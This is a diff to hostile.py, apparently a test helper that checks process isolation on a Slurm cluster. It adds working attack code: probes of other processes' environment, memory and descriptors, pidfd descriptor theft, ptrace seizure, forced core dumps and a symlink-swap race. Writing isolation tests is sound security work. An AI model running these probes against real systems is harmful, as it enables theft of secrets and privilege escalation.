@@ -4,13 +4,17 @@
 
     hostile.py attack LOG SECRET      until its stdin ends; a line of LOG for each success, and at the end how many processes were tried;
                                       prints the name of each as it is tried
+    hostile.py still PID SECRET       a line for each success with this process, which it then ends
+    hostile.py swap FOLDER TARGET     from the first line of its stdin to its end, FOLDER/swap is a folder and a link to TARGET, in turn
     hostile.py terminal COMMAND...    runs it in a terminal of its own; at the end, on a last line, what somebody typed into it
 """
 import ctypes
+import errno
 import fcntl
 import os
 import pty
 import re
+import resource
 import select
 import signal
 import sys
@@ -18,8 +22,12 @@ import termios
 import time
 
 PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
+SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
 LIBC = ctypes.CDLL(None, use_errno=True)
 LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+# Of /proc/PID: what only those who may trace a process can open, or follow. A process that ends has none of it any more.
+PRIVATE = ("maps", "smaps", "auxv", "pagemap", "io", "stack", "syscall", "timers", "clear_refs", "task/{pid}/mem", "task/{pid}/environ")
+LINKS = ("cwd", "root", "exe")
 
 
 def read(path):
@@ -55,6 +63,50 @@ def of_own_job(pid):
     return b"SLURMD_NODENAME=" in (environment or b"")
 
 
+class Piece(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+
+
+def looked_into(pid, secret):
+    """What its number gives a user of another process: a list of words."""
+    gained = []
+    environment = read(f"/proc/{pid}/environ")
+    if environment:
+        gained.append("environment" + (" with root's secret" if secret.encode() in environment else ""))
+    try:
+        with open(f"/proc/{pid}/mem", "rb"):
+            gained.append("memory")
+    except OSError:
+        pass
+    try:
+        gained.append("descriptors " + " ".join(os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")))
+    except OSError:
+        pass
+    gained += [name for name in PRIVATE if read(f"/proc/{pid}/{name.format(pid=pid)}")]
+    for name in LINKS:
+        try:
+            gained.append(f"{name} {os.readlink(f'/proc/{pid}/{name}')}")
+        except OSError:
+            pass
+    room = ctypes.create_string_buffer(16)
+    here, there = Piece(ctypes.addressof(room), 16), Piece(4096, 16)
+    ctypes.set_errno(0)
+    if LIBC.process_vm_readv(int(pid), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) >= 0 or ctypes.get_errno() == errno.EFAULT:
+        gained.append("copies of memory")
+    opened = LIBC.syscall(SYS_PIDFD_OPEN, int(pid), 0)
+    if opened >= 0:
+        taken = LIBC.syscall(SYS_PIDFD_GETFD, opened, 0, 0)
+        if taken >= 0:
+            os.close(taken)
+            gained.append("a descriptor's copy")
+        os.close(opened)
+    if LIBC.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
+        if b"\nVmSize:" in (read(f"/proc/{pid}/status") or b""):  # one that ends has no memory any more: the kernel lets anybody seize that
+            gained.append("control")
+        LIBC.ptrace(PTRACE_DETACH, int(pid), None, None)
+    return gained
+
+
 def attack(log, secret):
     """What a user can do to a process that has their number, by its number alone."""
     own, tried = set(), {}
@@ -70,29 +122,12 @@ def attack(log, secret):
             if pid in own or int(pid) == os.getpid() or not is_mine(pid):
                 continue
             name = (read(f"/proc/{pid}/comm") or b"").decode(errors="replace").strip()
-            session = os.getsid(int(pid)) if os.path.exists(f"/proc/{pid}") else 0
             if name in ("orted", "slurmstepd", "stuck", "sh", "bash", "prted") or b"SLURMD_NODENAME=" in (read(f"/proc/{pid}/environ") or b""):
                 continue  # of the user's own job
             if pid not in tried:
                 print(name, flush=True)
             tried[pid] = name
-            gained = []
-            environment = read(f"/proc/{pid}/environ")
-            if environment:
-                gained.append("environment" + (" with root's secret" if secret.encode() in environment else ""))
-            try:
-                with open(f"/proc/{pid}/mem", "rb"):
-                    gained.append("memory")
-            except OSError:
-                pass
-            try:
-                gained.append("descriptors " + " ".join(os.readlink(f"/proc/{pid}/fd/{n}") for n in os.listdir(f"/proc/{pid}/fd")))
-            except OSError:
-                pass
-            if LIBC.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
-                if b"\nVmSize:" in (read(f"/proc/{pid}/status") or b""):  # one that ends has no memory any more: the kernel lets anybody seize that
-                    gained.append(f"control, in session {session}")
-                LIBC.ptrace(PTRACE_DETACH, int(pid), None, None)
+            gained = looked_into(pid, secret)
             if gained and not of_own_job(pid):
                 for what in gained:
                     got(pid, what)
@@ -105,6 +140,28 @@ def attack(log, secret):
             except OSError:
                 pass
     log.write(f"tried {len(tried)}: {' '.join(sorted(set(tried.values())))}\n")
+    return 0
+
+
+def still(pid, secret):
+    """The same for one that stands still, in which nothing changes meanwhile; then whether it leaves a core with what it knows."""
+    for word in looked_into(pid, secret):
+        print("got", word)
+    resource.prlimit(int(pid), resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+    os.kill(int(pid), signal.SIGSEGV)
+    print("done")
+    return 0
+
+
+def swap(folder, target):
+    os.chdir(folder)
+    os.mkdir("swap.d")
+    os.symlink(target, "swap.l")
+    sys.stdin.readline()
+    while not select.select([sys.stdin], [], [], 0)[0]:
+        for name in ("swap.d", "swap.l"):
+            os.rename(name, "swap")
+            os.rename("swap", name)
     return 0
 
 
@@ -147,6 +204,10 @@ if __name__ == "__main__":
     if sys.argv[1] == "attack":
         with open(sys.argv[2], "w", encoding="utf-8") as out:
             sys.exit(attack(out, sys.argv[3]))
+    if sys.argv[1] == "swap":
+        sys.exit(swap(*sys.argv[2:]))
+    if sys.argv[1] == "still":
+        sys.exit(still(sys.argv[2], sys.argv[3]))
     ended, _, printed, read_back = terminal(sys.argv[2:])
     sys.stdout.write(printed.decode(errors="replace").replace("\r\n", "\n"))
     print(f"typed {read_back!r}")
